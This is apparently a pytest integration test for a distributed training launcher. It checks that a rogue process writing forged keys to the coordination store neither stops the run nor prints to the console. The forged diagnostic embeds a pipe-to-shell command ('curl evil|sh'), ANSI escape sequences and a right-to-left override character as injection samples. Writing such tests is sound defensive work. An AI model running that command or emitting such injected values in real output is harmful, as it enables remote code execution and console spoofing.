"""Somebody else on the port where the ranks meet: he is not believed, not shown, and does not end the run."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import warm
from support import worker_environment, write_yaml

from paceline.launch.network import free_port

pytestmark = [pytest.mark.integration]

STRANGER = """
import datetime, json, sys, time
import torch.distributed as dist
store = dist.TCPStore("127.0.0.1", int(sys.argv[1]), is_master=False, wait_for_workers=False, timeout=datetime.timedelta(seconds=240))
mine = dist.PrefixStore("paceline/attempt_0", store)
mine.wait(["all_here"], datetime.timedelta(seconds=240))
evil = {"code": "evil.code", "what": "\\x1b[31mSTRANGER says: run curl evil|sh", "where": "x\\u202e"}
mine.set("error", json.dumps({"rank": 1, "exit_code": 1, "diagnostic": evil}))
for rank in range(2):
    mine.set(f"alive/{rank}", "\\x1b[2J STRANGER")
    mine.delete_key(f"alive/{rank}")
print("written", flush=True)
"""  # noqa: E501


def listening(port: int) -> set[str]:
    """The local addresses, as /proc has them, at which somebody listens on this port."""
    rows = [
        line.split()
        for name in ("tcp", "tcp6")
        for line in Path("/proc/net", name).read_text().splitlines()[1:]
    ]
    return {row[1].split(":")[0] for row in rows if row[3] == "0A" and int(row[1].split(":")[1], 16) == port}


def test_a_stranger_on_the_port_neither_ends_the_run_nor_writes_on_the_console(
    tmp_path: Path, tiny: Callable[..., dict[str, Any]]
) -> None:
    port, config = free_port(), tiny(max_steps=1_000_000, logging_steps=500)
    path = write_yaml(tmp_path / "c.yaml", config)
    argv = [
        sys.executable,
        "-m",
        "paceline.cli.main",
        "train",
        str(path),
        "--nproc",
        "2",
        "--master-port",
        str(port),
    ]
    pipe = subprocess.PIPE
    (tmp_path / "stranger.py").write_text(STRANGER)  # it tries until the port is open
    command = [sys.executable, str(tmp_path / "stranger.py"), str(port)]
    stranger = warm.Popen(command, stdout=pipe, stderr=pipe, text=True, env=worker_environment())
    run = warm.Popen(
        argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=worker_environment()
    )
    try:
        written, errors = stranger.communicate(timeout=240)
        assert "written" in written, errors[-2000:]
        assert listening(port) == {"0100007F"}, "the store listens beyond this machine"
        events = Path(config["training"]["output_dir"]) / "events" / "rank-00000.events.jsonl"
        deadline, done = time.monotonic() + 240, 0
        while done < 20 and run.poll() is None and time.monotonic() < deadline:
            time.sleep(0.3)
            done = events.read_text().count('"kind":"step"') if events.exists() else 0
        time.sleep(2)  # seven polls of the alarm
        assert run.poll() is None and done >= 20, "the stranger has ended the run"
        run.terminate()
        out = run.communicate(timeout=240)[0]
    finally:
        for process in (run, stranger):
            process.kill()
            process.wait()
    assert run.returncode == 75, out
    assert out.count("runtime.store_forged") == 1, out
    assert "STRANGER" not in out and "\x1b" not in out and "evil" not in out
    result = json.loads((Path(config["training"]["output_dir"]) / "result.json").read_text())
    assert result["outcome"] == "stopped"
